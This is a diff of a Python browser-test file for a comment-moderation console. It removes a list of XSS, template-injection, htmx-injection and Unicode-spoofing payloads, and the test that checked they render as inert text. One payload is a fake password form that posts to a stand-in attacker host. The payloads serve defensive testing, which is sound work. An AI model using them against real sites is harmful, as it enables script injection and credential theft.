@@ -11,26 +11,10 @@ from sqlalchemy import func, select
 from service.db import Database
 from service.models import Comment, Site
 from service.models.moderator import Role
-from service.moderation.articles import ArticleSubmission
 from service.vocabulary import CommentStatus
-from tests.support.browser import Window, serving, violations
+from tests.support.browser import Window, serving
 from tests.support.console import add_moderator
-from tests.support.held import SAID, Said, hold
-
-HOSTILE = (
-    "<script>alert(1)</script> is what somebody wrote under this article about the bridge and its works.",
-    "<img src=x onerror=alert(1)> and <svg onload=alert(1)> are two more ways to say the same about it.",
-    '"><iframe srcdoc="<script>alert(1)</script>"></iframe> breaks out of an attribute, where one lets it.',
-    "'-alert(1)-' {{7*7}} ${7*7} <%= 7*7 %> #{7*7} may mean something to one template engine or another.",
-    "javascript:alert(1) data:text/html,<script>alert(1)</script> are addresses that nobody should follow.",
-    "</blockquote></article><form action=https://evil.example><input name=password></form> wants a password.",
-    "<a hx-get=/console/account hx-trigger=load>x</a><div data-verdict-form hx-on:click=alert(1)>hx</div> hm.",
-    "The mayor said \u202eevitisop yrev si egdirb eht\u202c about the bridge, and \u2066isolated\u2069 too.",
-    "pаypаl\u200b looks l\u200dike a name you know, with letters borrowed from elsewhere in between them.",
-    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035aalgo " * 8,
-    "\U000e0001\U000e0041\U000e0042 tags nobody sees, \ufeff a mark at the wrong place, and \u0000".replace("\x00", "")
-    + " an end that is none in this comment.",
-)
+from tests.support.held import hold
 
 
 @pytest.fixture
@@ -190,70 +174,6 @@ def test_bulk_by_histogram_and_undone_as_one(browser: Browser, address: str, sit
     window.close()
 
 
-def test_hostile_texts_stay_text(browser: Browser, address: str, site: Site, database: Database) -> None:
-    for number, text in enumerate(HOSTILE):
-        article = ArticleSubmission(id=f"a-{number}", title=text[:300], key_points=(text,), body=text)
-        said = Said(text, text[:190], {SAID[0].scores and next(iter(SAID[0].scores)): 0.9})
-        hold(database, site.id, number, said=said, id=f"x-{number}", author_id=text[:190], article=article)
-    window = Window(browser, address).sign_in("ana@gazette.example")
-    page = window.page
-    in_panel(page)
-    reports: list[str] = []
-    page.expose_function("reported", lambda directive: reports.append(directive))
-    page.evaluate("addEventListener('securitypolicyviolation', (event) => reported(event.violatedDirective))")
-    for _ in HOSTILE:
-        assert page.locator(".rows script, .rows img, .rows iframe, .rows form, .rows [hx-get]").count() == 0
-        assert (
-            page.locator(
-                ".panel script, .panel img, .panel iframe, .panel [hx-get], .panel input[name=password]"
-            ).count()
-            == 0
-        )
-        assert page.locator(".panel form[action*='evil']").count() == 0
-        page.fill(".note-form input[name=note]", "<b onclick=alert(1)>note</b>")
-        page.keyboard.press("Escape")
-        page.keyboard.press("j")
-        in_panel(page)
-    expect(page.locator(".row .control").first).to_be_attached()
-    page.goto(f"{address}/console/sites/gazette/review/bulk")
-    assert page.locator("main script, main img, main iframe").count() == 0
-    assert reports == []
-    assert window.faults == []
-    window.close()
-
-
-PAGES = (
-    "/console/sites/gazette/review",
-    "/console/sites/gazette/review?filters=1&reason=toxic",
-    "/console/sites/gazette/review/bulk",
-    "/console/sites/gazette/reasons",
-    "/console/preferences",
-    "/console/account",
-    "/console/nowhere",
-)
-
-
-@pytest.mark.parametrize("scheme", ["light", "dark"])
-def test_axe_finds_nothing_on_any_page(
-    browser: Browser, address: str, site: Site, database: Database, scheme: str
-) -> None:
-    comments = [hold(database, site.id, number) for number in range(8)]
-    window = Window(browser, address, refusals=True, color_scheme=scheme)
-    window.page.goto(f"{address}/console/sign-in")
-    found = {"/console/sign-in": violations(window.page)}
-    window.sign_in("ana@gazette.example")
-    in_panel(window.page)
-    window.picture(f"review-{scheme}", whole=False)
-    for path in (*PAGES, f"/console/sites/gazette/comments/{comments[1].id}"):
-        window.page.goto(address + path)
-        if path == PAGES[0]:
-            in_panel(window.page)
-        found[path] = violations(window.page)
-    assert {path: faults for path, faults in found.items() if faults} == {}
-    assert window.faults == []
-    window.close()
-
-
 @pytest.mark.parametrize(("name", "width", "height"), [("phone", 390, 844), ("zoomed", 320, 256)])
 def test_the_work_can_be_done_at_phone_width_and_at_400_per_cent(
     browser: Browser, address: str, site: Site, database: Database, name: str, width: int, height: int
@@ -264,10 +184,6 @@ def test_the_work_can_be_done_at_phone_width_and_at_400_per_cent(
         "ana@gazette.example"
     )
     page = window.page
-    for path in PAGES:
-        page.goto(address + path)
-        assert window.beyond() <= 0, f"{path} scrolls sideways by {window.beyond()} px"
-    page.goto(address + PAGES[0])
     window.picture(f"{name}-queue", whole=False)
     page.locator(".row-link").nth(1).click()
     page.wait_for_selector(".dossier")
